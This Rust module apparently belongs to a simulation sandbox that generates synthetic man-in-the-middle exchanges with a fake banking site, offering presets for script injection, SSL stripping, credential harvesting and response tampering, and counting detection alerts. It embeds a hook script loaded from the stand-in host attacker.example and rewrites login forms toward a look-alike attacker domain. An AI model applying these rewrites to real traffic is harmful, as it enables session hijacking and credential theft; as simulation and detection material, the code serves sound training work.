//! Man-in-the-middle interception synthesis.
//!
//! Every tick intercepts a fixed number of synthetic HTTP exchanges. Depending
//! on the active preset an exchange may have its response rewritten, and a
//! rewritten response may trip a detection alert. All exchanges are built from
//! static templates; no traffic is ever produced.

use std::str::FromStr;

use rand::Rng;
use serde::{Deserialize, Serialize};

use super::{Payload, Synthesizer, Tick};
use crate::counters::CounterDelta;
use crate::types::{Event, EventIdGenerator, SimulationKind};

pub const INTERCEPTED: &str = "intercepted";
pub const MODIFIED: &str = "modified";
pub const ALERTS: &str = "alerts";

/// Highest accepted number of exchanges per tick.
pub const MAX_EXCHANGES_PER_TICK: u32 = 50;

const ATTACKER_HOST: &str = "attacker.example";
const HOOK_SCRIPT: &str = "<script src=\"https://attacker.example/hook.js\"></script>";

struct Template {
    method: &'static str,
    path: &'static str,
    content_type: &'static str,
    body: &'static str,
}

const TEMPLATES: &[Template] = &[
    Template {
        method: "POST",
        path: "/api/login",
        content_type: "application/json",
        body: r#"{"username":"alice","session":"active","redirect":"https://{host}/dashboard"}"#,
    },
    Template {
        method: "GET",
        path: "/api/account/balance",
        content_type: "application/json",
        body: r#"{"account":"****4821","balance":1520.75,"currency":"EUR"}"#,
    },
    Template {
        method: "GET",
        path: "/",
        content_type: "text/html",
        body: "<html><head><title>Online Banking</title></head><body><form action=\"https://{host}/login\" method=\"post\"><input name=\"user\"><input name=\"pass\" type=\"password\"></form></body></html>",
    },
    Template {
        method: "POST",
        path: "/api/transfer",
        content_type: "application/json",
        body: r#"{"to":"****1190","amount":250.0,"status":"queued"}"#,
    },
    Template {
        method: "GET",
        path: "/static/app.js",
        content_type: "application/javascript",
        body: "window.APP_CONFIG={api:\"https://{host}/api\"};",
    },
];

/// Attack behaviour applied to intercepted responses.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum InterceptPreset {
    /// Observe only; responses are never rewritten.
    Passive,
    /// Inject a hostile script into the response.
    ScriptInjection,
    /// Downgrade links to plain HTTP and drop HSTS.
    SslStrip,
    /// Point forms and redirects at a look-alike host.
    CredentialHarvest,
    /// Alter values inside JSON responses.
    ResponseTampering,
}

impl InterceptPreset {
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Passive => "passive",
            Self::ScriptInjection => "script-injection",
            Self::SslStrip => "ssl-strip",
            Self::CredentialHarvest => "credential-harvest",
            Self::ResponseTampering => "response-tampering",
        }
    }

    fn alert_message(&self) -> &'static str {
        match self {
            Self::Passive => "passive observation",
            Self::ScriptInjection => "injected script detected in response",
            Self::SslStrip => "HSTS header stripped and links downgraded",
            Self::CredentialHarvest => "credential form redirected to foreign host",
            Self::ResponseTampering => "response body integrity mismatch",
        }
    }
}

impl std::fmt::Display for InterceptPreset {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for InterceptPreset {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_lowercase().replace('_', "-").as_str() {
            "passive" => Ok(Self::Passive),
            "script-injection" => Ok(Self::ScriptInjection),
            "ssl-strip" => Ok(Self::SslStrip),
            "credential-harvest" => Ok(Self::CredentialHarvest),
            "response-tampering" => Ok(Self::ResponseTampering),
            other => Err(format!("unknown interception preset: {}", other)),
        }
    }
}

/// Parameters of an intercept session.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct InterceptParams {
    #[serde(default = "default_preset")]
    pub preset: InterceptPreset,

    /// Host named in the synthetic exchanges.
    #[serde(default = "default_host")]
    pub host: String,

    #[serde(default = "default_exchanges")]
    pub exchanges_per_tick: u32,

    /// Chance that an exchange is rewritten (ignored for `passive`).
    #[serde(default = "default_modify_probability")]
    pub modify_probability: f64,

    /// Chance that a rewritten exchange raises an alert.
    #[serde(default = "default_detection_probability")]
    pub detection_probability: f64,

    /// Upper bound on every response body.
    #[serde(default = "default_max_body_bytes")]
    pub max_body_bytes: usize,
}

impl Default for InterceptParams {
    fn default() -> Self {
        Self {
            preset: default_preset(),
            host: default_host(),
            exchanges_per_tick: default_exchanges(),
            modify_probability: default_modify_probability(),
            detection_probability: default_detection_probability(),
            max_body_bytes: default_max_body_bytes(),
        }
    }
}

fn default_preset() -> InterceptPreset {
    InterceptPreset::ScriptInjection
}

fn default_host() -> String {
    "bank.example".to_string()
}

fn default_exchanges() -> u32 {
    1
}

fn default_modify_probability() -> f64 {
    0.35
}

fn default_detection_probability() -> f64 {
    0.6
}

fn default_max_body_bytes() -> usize {
    2048
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Header {
    pub name: String,
    pub value: String,
}

impl Header {
    fn new(name: &str, value: &str) -> Self {
        Self {
            name: name.to_string(),
            value: value.to_string(),
        }
    }
}

/// A synthetic HTTP response.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct HttpMessage {
    pub status: u16,
    pub headers: Vec<Header>,
    pub body: String,
}

impl HttpMessage {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|h| h.name.eq_ignore_ascii_case(name))
            .map(|h| h.value.as_str())
    }
}

/// One intercepted exchange: the original response and, when the attack
/// rewrote it, the modified one.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Interception {
    pub tick: u64,
    pub method: String,
    pub host: String,
    pub path: String,
    pub original: HttpMessage,
    pub modified: Option<HttpMessage>,
    pub alert: Option<String>,
    pub latency_ms: u32,
}

impl Interception {
    pub fn is_modified(&self) -> bool {
        self.modified.is_some()
    }
}

impl Payload for Interception {
    fn csv_header() -> &'static [&'static str] {
        &[
            "tick",
            "method",
            "host",
            "path",
            "status",
            "modified",
            "alert",
            "latency_ms",
        ]
    }

    fn csv_row(&self) -> Vec<String> {
        vec![
            self.tick.to_string(),
            self.method.clone(),
            self.host.clone(),
            self.path.clone(),
            self.original.status.to_string(),
            self.is_modified().to_string(),
            self.alert.clone().unwrap_or_default(),
            self.latency_ms.to_string(),
        ]
    }
}

/// Cut `body` to at most `max` bytes without splitting a character.
pub fn truncate_body(mut body: String, max: usize) -> String {
    if body.len() <= max {
        return body;
    }
    let mut cut = max;
    while cut > 0 && !body.is_char_boundary(cut) {
        cut -= 1;
    }
    body.truncate(cut);
    body
}

/// Synthesizer for the interception sandbox.
#[derive(Debug, Clone, Copy, Default)]
pub struct InterceptSynthesizer;

impl InterceptSynthesizer {
    fn original(template: &Template, params: &InterceptParams) -> HttpMessage {
        let body = template.body.replace("{host}", &params.host);
        HttpMessage {
            status: 200,
            headers: vec![
                Header::new("Content-Type", template.content_type),
                Header::new("Strict-Transport-Security", "max-age=31536000"),
                Header::new("Server", "nginx"),
            ],
            body: truncate_body(body, params.max_body_bytes),
        }
    }

    /// Apply the preset's rewrite to a response.
    ///
    /// `None` for `passive` and whenever the rewrite leaves the response
    /// unchanged, e.g. a credential harvest on a body that never names the
    /// host.
    pub fn tamper(
        preset: InterceptPreset,
        original: &HttpMessage,
        params: &InterceptParams,
    ) -> Option<HttpMessage> {
        let mut modified = original.clone();
        match preset {
            InterceptPreset::Passive => return None,
            InterceptPreset::ScriptInjection => {
                let fits = original.body.len() + HOOK_SCRIPT.len() + 1 <= params.max_body_bytes;
                modified.body = match original.body.find("</body>") {
                    Some(at) if fits => {
                        let mut body = original.body.clone();
                        body.insert_str(at, HOOK_SCRIPT);
                        body
                    }
                    _ if fits => format!("{}\n{}", original.body, HOOK_SCRIPT),
                    // No room behind the content; the hook goes first so the
                    // cap cuts the original instead.
                    _ => format!("{}{}", HOOK_SCRIPT, original.body),
                };
            }
            InterceptPreset::SslStrip => {
                modified.body = original.body.replace("https://", "http://");
                modified
                    .headers
                    .retain(|h| !h.name.eq_ignore_ascii_case("Strict-Transport-Security"));
            }
            InterceptPreset::CredentialHarvest => {
                let lookalike = format!("{}.{}", params.host.replace('.', "-"), ATTACKER_HOST);
                modified.body = original.body.replace(&params.host, &lookalike);
            }
            InterceptPreset::ResponseTampering => {
                modified.body = tamper_values(&original.body);
            }
        }
        modified.body = truncate_body(modified.body, params.max_body_bytes);
        if modified == *original {
            return None;
        }
        Some(modified)
    }
}

/// Scale every number in a JSON object tenfold and mark it tampered; other
/// bodies get a trailing marker.
fn tamper_values(body: &str) -> String {
    match serde_json::from_str::<serde_json::Value>(body) {
        Ok(serde_json::Value::Object(mut map)) => {
            for value in map.values_mut() {
                if let Some(n) = value.as_f64() {
                    *value = serde_json::json!(n * 10.0);
                }
            }
            map.insert("tampered".into(), serde_json::Value::Bool(true));
            serde_json::Value::Object(map).to_string()
        }
        _ => format!("{}<!-- tampered -->", body),
    }
}

impl Synthesizer for InterceptSynthesizer {
    type Params = InterceptParams;
    type Payload = Interception;

    const KIND: SimulationKind = SimulationKind::Intercept;
    const COUNTERS: &'static [&'static str] = &[INTERCEPTED, MODIFIED, ALERTS];
    const FLAG_COUNTER: &'static str = ALERTS;

    fn validate(params: &InterceptParams) -> Result<(), String> {
        if params.exchanges_per_tick == 0 || params.exchanges_per_tick > MAX_EXCHANGES_PER_TICK {
            return Err(format!(
                "exchanges_per_tick must be in 1..={}, got {}",
                MAX_EXCHANGES_PER_TICK, params.exchanges_per_tick
            ));
        }
        for (name, p) in [
            ("modify_probability", params.modify_probability),
            ("detection_probability", params.detection_probability),
        ] {
            if !(0.0..=1.0).contains(&p) {
                return Err(format!("{} must be in [0, 1], got {}", name, p));
            }
        }
        if params.max_body_bytes < 64 {
            return Err(format!(
                "max_body_bytes must be at least 64, got {}",
                params.max_body_bytes
            ));
        }
        if params.host.trim().is_empty() {
            return Err("host must not be empty".into());
        }
        Ok(())
    }

    fn synthesize<R: Rng + ?Sized>(
        &self,
        params: &InterceptParams,
        tick: u64,
        ids: &EventIdGenerator,
        rng: &mut R,
    ) -> Tick<Interception> {
        let count = params.exchanges_per_tick as u64;
        let mut events = Vec::with_capacity(count as usize);
        let mut modified_count = 0u64;
        let mut alert_count = 0u64;

        for _ in 0..count {
            let template = &TEMPLATES[rng.gen_range(0..TEMPLATES.len())];
            let original = Self::original(template, params);

            let rewrite = params.preset != InterceptPreset::Passive
                && rng.gen_bool(params.modify_probability);
            let modified = if rewrite {
                Self::tamper(params.preset, &original, params)
            } else {
                None
            };

            let alert = match modified {
                Some(_) if rng.gen_bool(params.detection_probability) => {
                    Some(params.preset.alert_message().to_string())
                }
                _ => None,
            };

            let mut latency_ms = rng.gen_range(15..120);
            if modified.is_some() {
                modified_count += 1;
                latency_ms += rng.gen_range(20..200);
            }
            if alert.is_some() {
                alert_count += 1;
            }

            let exchange = Interception {
                tick,
                method: template.method.to_string(),
                host: params.host.clone(),
                path: template.path.to_string(),
                original,
                modified,
                alert,
                latency_ms,
            };
            events.push(Event::new(ids.next_id(), exchange));
        }

        let delta = CounterDelta::new(count)
            .with(INTERCEPTED, count)
            .with(MODIFIED, modified_count)
            .with(ALERTS, alert_count);

        Tick { events, delta }
    }
}
